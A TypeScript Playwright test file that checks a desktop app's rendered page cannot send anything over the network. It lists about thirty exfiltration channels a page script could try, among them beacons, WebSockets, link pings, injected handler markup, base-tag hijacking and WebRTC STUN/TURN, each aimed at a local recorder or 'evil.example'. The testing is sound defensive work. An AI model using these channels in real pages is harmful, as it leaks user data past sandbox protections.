import { createSocket, type Socket } from 'node:dgram'
import { once } from 'node:events'
import { copyFile, writeFile } from 'node:fs/promises'
import { type AddressInfo, createServer, type Server } from 'node:net'
import { join } from 'node:path'
import { type Browser, chromium, type Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { serveDesk, type WebHost } from '../../src-main/host-web/serve.ts'
import { chromiumExecutable } from '../../src-main/start/chromium.ts'
import { type BuiltPages, buildPages } from './hosts/built-pages.ts'
import { smallDesk } from './hosts/desk-under-test.ts'

/** Everything that a page of the desk sends anywhere but to its desk ends here, whatever name it was sent to. */
let tcp: Server
let udp: Socket
/** The first bytes of each connection, or that there was one. */
const packets: string[] = []
const heardAt = (): { tcp: number; udp: number } => ({
  tcp: (tcp.address() as AddressInfo).port,
  udp: udp.address().port,
})

let browser: Browser
let pages: BuiltPages
let host: WebHost
let page: Page

beforeAll(async () => {
  tcp = createServer((socket) => {
    packets.push('a connection')
    socket.on('data', (data) => packets.push(data.toString('latin1').slice(0, 60)))
    socket.on('error', () => {})
    setTimeout(() => socket.destroy(), 500)
  }).listen(0, '127.0.0.1')
  udp = createSocket('udp4').bind(0, '127.0.0.1')
  udp.on('message', (data) => packets.push(`udp ${data.length}`))
  await Promise.all([once(tcp, 'listening'), once(udp, 'listening')])
  pages = await buildPages()
  // Of the screens, the one script that runs before all others is a part of the wall.
  await copyFile(
    join(import.meta.dirname, '../../src-renderer/public', firstScript),
    join(pages.rendererFolder, firstScript),
  )
  const markup = `<!doctype html><title>Holdfast</title><script src="./${firstScript}"></script><body></body>`
  await writeFile(join(pages.rendererFolder, 'index.html'), markup)
  host = await serveDesk({ door: smallDesk().door, port: 0, rendererFolder: pages.rendererFolder })
  const { executablePath, args, env } = await chromiumExecutable()
  // Names lead to the recorder, so that nothing goes out unheard for want of a network.
  const everywhere = `--host-resolver-rules=MAP *.example 127.0.0.1`
  browser = await chromium.launch({ executablePath, args: [...args, everywhere], env: { ...process.env, ...env } })
})
afterAll(async () => {
  await browser.close()
  await host.close()
  await pages.remove()
  tcp.close()
  udp.close()
})
beforeEach(async () => {
  packets.length = 0
  page = await browser.newPage()
  await page.goto(new URL(host.url).origin)
})

const firstScript = 'first-paint.js'

type Place = { name: string; at: string; tcp: number; udp: number }

/** The ways out that a script in the page could try. Each runs inside the page. */
const ways: Record<string, (to: Place) => unknown> = {
  'fetch over http': ({ at }) => fetch(`http://${at}/`, { mode: 'no-cors' }).catch(() => {}),
  'fetch over https': ({ at }) => fetch(`https://${at}/`, { mode: 'no-cors' }).catch(() => {}),
  'fetch that outlives the page': ({ at }) =>
    fetch(`http://${at}/`, { mode: 'no-cors', keepalive: true }).catch(() => {}),
  XMLHttpRequest: ({ at }) => {
    const request = new XMLHttpRequest()
    request.open('POST', `http://${at}/`)
    request.send('a name')
  },
  WebSocket: ({ at }) => void new WebSocket(`ws://${at}/`),
  'secure WebSocket': ({ at }) => void new WebSocket(`wss://${at}/`),
  EventSource: ({ at }) => void new EventSource(`http://${at}/`),
  beacon: ({ at }) => navigator.sendBeacon(`http://${at}/`, 'a name'),
  image: ({ at }) => {
    new Image().src = `http://${at}/pixel.png`
  },
  'image in a style': ({ at }) => {
    document.body.style.backgroundImage = `url(http://${at}/pixel.png)`
  },
  font: ({ at }) => void new FontFace('Far', `url(http://${at}/far.woff2)`).load().catch(() => {}),
  'style sheet': ({ at }) => {
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `http://${at}/x.css` }),
    )
  },
  script: ({ at }) => {
    document.head.append(Object.assign(document.createElement('script'), { src: `http://${at}/x.js` }))
  },
  'imported script': ({ at }) => import(/* @vite-ignore */ `http://${at}/x.js`).catch(() => {}),
  prefetch: ({ at }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `http://${at}/x` }))
  },
  preload: ({ at }) => {
    const link = Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: `http://${at}/x` })
    document.head.append(link)
  },
  manifest: ({ at }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: `http://${at}/x` }))
  },
  sound: ({ at }) => void new Audio(`http://${at}/x.mp3`).play().catch(() => {}),
  frame: ({ at }) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: `http://${at}/` }))
  },
  object: ({ at }) => {
    document.body.append(Object.assign(document.createElement('object'), { data: `http://${at}/` }))
  },
  'frame of its own words': ({ at }) => {
    const frame = document.createElement('iframe')
    frame.srcdoc = `<img src="http://${at}/pixel.png">`
    document.body.append(frame)
  },
  form: ({ at }) => {
    const form = Object.assign(document.createElement('form'), { action: `http://${at}/`, method: 'post' })
    document.body.append(form)
    form.submit()
  },
  'ping of a link': ({ at }) => {
    const link = Object.assign(document.createElement('a'), { href: '#here', ping: `http://${at}/`, textContent: 'x' })
    document.body.append(link)
    link.click()
  },
  'worker of a text': ({ at }) => {
    const code = new Blob([`fetch('http://${at}/', { mode: 'no-cors' })`], { type: 'text/javascript' })
    try {
      new Worker(URL.createObjectURL(code))
    } catch {}
  },
  'code of a text': ({ at }) => {
    try {
      new Function(`fetch('http://${at}/', { mode: 'no-cors' })`)()
    } catch {}
  },
  'markup with a handler': ({ at }) => {
    document.body.innerHTML = `<img src="x" onerror="fetch('http://${at}/')"><script>fetch('http://${at}/')</script>`
  },
  base: ({ at }) => {
    document.head.append(Object.assign(document.createElement('base'), { href: `http://${at}/` }))
    document.head.append(Object.assign(document.createElement('script'), { src: 'x.js' }))
  },
  WebRTC: async ({ udp: port }) => {
    const line = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })
    line.createDataChannel('out')
    await line.setLocalDescription(await line.createOffer())
  },
  'WebRTC over TCP': async ({ tcp: port }) => {
    const server = { urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'a', credential: 'b' }
    const line = new RTCPeerConnection({ iceServers: [server], iceTransportPolicy: 'relay' })
    line.createDataChannel('out')
    await line.setLocalDescription(await line.createOffer())
  },
}

/** What is begun is sent well within this (ms): the recorder is on the same machine. */
const long = 400

describe('[E3] [E4] the page has no network of its own', () => {
  const places = (): Place[] => [
    { name: 'by number', at: `127.0.0.1:${heardAt().tcp}`, ...heardAt() },
    { name: 'by name', at: `evil.example:${heardAt().tcp}`, ...heardAt() },
  ]

  test('the recorder hears what does go out', async () => {
    const free = await browser.newPage()
    await free.goto('about:blank')
    for (const place of places()) {
      packets.length = 0
      await free.evaluate((at) => fetch(`http://${at}/`, { mode: 'no-cors' }).catch(() => {}), place.at)
      await expect.poll(() => packets.length).toBeGreaterThan(0)
    }
    await free.close()
  })

  test.each(Object.keys(ways))('[DX-A54] %s reaches nobody', async (way) => {
    const attempt = ways[way]
    if (!attempt) throw new Error(`No way ${way}`)
    for (const place of places()) {
      // A way that throws is closed; one that waits for an answer would wait for ever.
      await Promise.race([page.evaluate(attempt, place).catch(() => {}), page.waitForTimeout(long)])
      await page.waitForTimeout(long)
    }
    expect(packets).toEqual([])
    await page.close()
  })
})
